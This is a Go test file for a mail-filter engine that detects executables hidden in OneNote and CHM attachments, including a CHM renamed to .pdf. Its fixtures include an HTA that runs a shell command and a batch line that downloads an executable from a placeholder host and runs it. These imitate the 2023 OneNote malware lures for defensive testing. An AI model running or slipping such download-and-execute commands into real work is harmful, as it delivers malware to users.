package all

import (
	"bytes"
	"context"
	"testing"

	"github.com/officemilter/officemilter/inspect"
	"github.com/officemilter/officemilter/inspect/inspecttest"
	"github.com/officemilter/officemilter/inspect/onenote/onenotetest"
)

func engineResult(t *testing.T, name string, b []byte) *inspect.Result {
	t.Helper()
	return NewEngine(inspect.Limits{}).Inspect(context.Background(), name, "", bytes.NewReader(b), int64(len(b)))
}

func findingAt(res *inspect.Result, k inspect.Kind, where, typ string) bool {
	for _, f := range res.Findings {
		if f.Kind == k && f.Where == where && (typ == "" || f.Type == typ) {
			return true
		}
	}
	return false
}

// The 2023 wave: a OneNote section carrying an executable and an HTA.
func TestOneNoteEngine(t *testing.T) {
	hta := []byte("<html><HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>\n")
	one := onenotetest.One(onenotetest.File{Ext: ".exe", Data: inspecttest.PE()}, onenotetest.File{Name: "Open Document.hta", Data: hta})
	res := engineResult(t, "Invoice.one", one)
	if res.Type != inspect.TypeOne {
		t.Errorf("type %q", res.Type)
	}
	for _, want := range []struct {
		k          inspect.Kind
		where, typ string
	}{
		{inspect.KindEmbeddedObject, "embedded-1.exe", inspect.TypeOne},
		{inspect.KindExecutable, "embedded-1.exe", inspect.TypePE},
		{inspect.KindEmbeddedObject, "Open Document.hta", inspect.TypeOne},
		{inspect.KindExecutable, "Open Document.hta", inspect.TypeScript},
	} {
		if !findingAt(res, want.k, want.where, want.typ) {
			t.Errorf("no %s at %s (%s) in %+v", want.k, want.where, want.typ, res.Findings)
		}
	}
	if res.Has(inspect.KindUnscannable) {
		t.Errorf("unscannable: %+v", res.Findings)
	}
	// A nameless script: the package judges it by content.
	res = engineResult(t, "notes.one", onenotetest.One(onenotetest.File{Data: []byte("@echo off\r\ncurl http://x/a.exe -o a.exe & a.exe\r\n")}))
	if !findingAt(res, inspect.KindExecutable, "embedded-1.bin", "") {
		t.Errorf("nameless batch file not executable: %+v", res.Findings)
	}
}

func TestCHMEngine(t *testing.T) {
	chm := onenotetest.CHM(onenotetest.CHMFile{Name: "/a.exe", Data: inspecttest.PE()},
		onenotetest.CHMFile{Name: "/index.htm", Section: 1, Data: []byte("<html>")})
	res := engineResult(t, "help.chm", chm)
	if res.Type != inspect.TypeCHM || !findingAt(res, inspect.KindExecutable, "", inspect.TypeCHM) {
		t.Errorf("result %+v", res)
	}
	if !findingAt(res, inspect.KindExecutable, "a.exe", inspect.TypePE) {
		t.Errorf("embedded exe not inspected: %+v", res.Findings)
	}
	// A CHM renamed to .pdf is still executable, and says what its name claims.
	res = engineResult(t, "manual.pdf", chm)
	if res.Type != inspect.TypeCHM || res.Declared != inspect.TypePDF || !res.Has(inspect.KindExecutable) {
		t.Errorf("renamed: %+v", res)
	}
}
